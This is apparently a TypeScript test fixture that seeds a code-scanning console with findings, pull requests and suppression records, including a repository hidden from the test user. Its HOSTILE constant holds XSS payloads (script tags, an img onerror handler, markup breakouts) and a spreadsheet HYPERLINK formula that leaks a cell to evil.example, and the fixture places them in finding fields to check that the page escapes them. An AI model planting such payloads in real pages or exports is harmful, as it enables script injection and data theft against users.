import type { Store } from "../../src/store/open-store.js";
import { DAY, insertLifecycle, insertPullRequests, lifecycle } from "./lifecycle-seed.js";

/** Text a hostile SARIF log or commenter could write; each must reach the page as text. */
export const HOSTILE = {
  message: `User input <img src=x onerror="window.__xss='message';alert(1)"> reaches res.send`,
  rule: `js.xss"><script>window.__xss='rule'</script>`,
  path: `src/<b>views</b>/"quote".js`,
  justification: `</td></tr></table><script>window.__xss='justification';alert(3)</script> sanitised upstream`,
  formula: `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
};

/** Two repositories alice can see and one (acme/secret) she cannot, with findings and suppressions. */
export async function seedConsole(store: Store, now: number): Promise<void> {
  await insertLifecycle(store.db, [
    lifecycle({
      repo: "acme/shop",
      fingerprint: "fp-shop-1",
      finding_id: "GR-5a0b0001",
      severity: "critical",
      rule: HOSTILE.rule,
      message: HOSTILE.message,
      path: HOSTILE.path,
      line: 42,
      first_seen_at: now - 9 * DAY,
      reported_at: now - 9 * DAY + 60_000,
      merged_at: now - 8 * DAY,
    }),
    lifecycle({
      repo: "acme/shop",
      fingerprint: "fp-shop-2",
      finding_id: "GR-5a0b0002",
      severity: "high",
      path: "src/db.js",
      line: 7,
      first_seen_at: now - 3 * DAY,
      reported_at: now - 3 * DAY + 60_000,
      merged_at: now - 2 * DAY,
    }),
    lifecycle({
      repo: "acme/shop",
      fingerprint: "fp-shop-3",
      finding_id: "GR-5a0b0003",
      severity: "high",
      first_seen_at: now - 6 * DAY,
      resolved_at: now - DAY,
      resolution: "fixed",
    }),
    lifecycle({
      repo: "acme/api",
      fingerprint: "fp-api-1",
      finding_id: "GR-a0100001",
      severity: "medium",
      path: "api/server.go",
      line: 3,
      escaped: 0,
      preexisting: 1,
      first_seen_ref: "branch:main",
      first_pr: null,
      reported_at: null,
    }),
    lifecycle({
      repo: "acme/secret",
      fingerprint: "fp-secret-1",
      finding_id: "GR-5ec00001",
      severity: "critical",
      message: "SECRET-REPO-FINDING",
      path: "secret.js",
    }),
  ]);
  await insertPullRequests(store.db, [
    {
      repo: "acme/shop",
      number: 7,
      opened_at: now - 9 * DAY,
      first_analysed_at: now - 9 * DAY + 90_000,
      first_feedback_ms: 42_000,
    },
    { repo: "acme/shop", number: 8, opened_at: now - 2 * DAY, first_analysed_at: null },
    { repo: "acme/secret", number: 1, opened_at: now - DAY, first_analysed_at: null },
  ]);
  const common = {
    expiresAt: null,
    source: null,
    commentUrl: "https://github.com/acme/shop/pull/7#discussion_r9",
  };
  const requested = await store.suppressions.create({
    ...common,
    repo: "acme/shop",
    scope: { kind: "finding", fingerprint: "fp-shop-2" },
    findingId: "GR-5a0b0002",
    reason: "false-positive",
    justification: HOSTILE.justification,
    author: "dave",
    actor: "dave",
    createdAt: new Date(now - 2 * DAY),
    status: "requested",
  });
  await store.suppressions.decide(requested.id, {
    verdict: "approved",
    actor: "carol",
    note: "checked the sanitiser",
    commentUrl: null,
    at: new Date(now - DAY),
  });
  await store.suppressions.create({
    ...common,
    repo: "acme/api",
    scope: { kind: "rule", tool: "Trivy", ruleId: "CVE-2024-0001" },
    findingId: null,
    reason: "accepted-risk",
    justification: HOSTILE.formula,
    author: "erin",
    actor: "erin",
    createdAt: new Date(now - DAY),
    expiresAt: new Date(now + 5 * DAY),
  });
  await store.suppressions.create({
    ...common,
    repo: "acme/secret",
    scope: { kind: "finding", fingerprint: "fp-secret-1" },
    findingId: "GR-5ec00001",
    reason: "wont-fix",
    justification: "SECRET-JUSTIFICATION",
    author: "mallory",
    actor: "mallory",
    createdAt: new Date(now),
  });
}
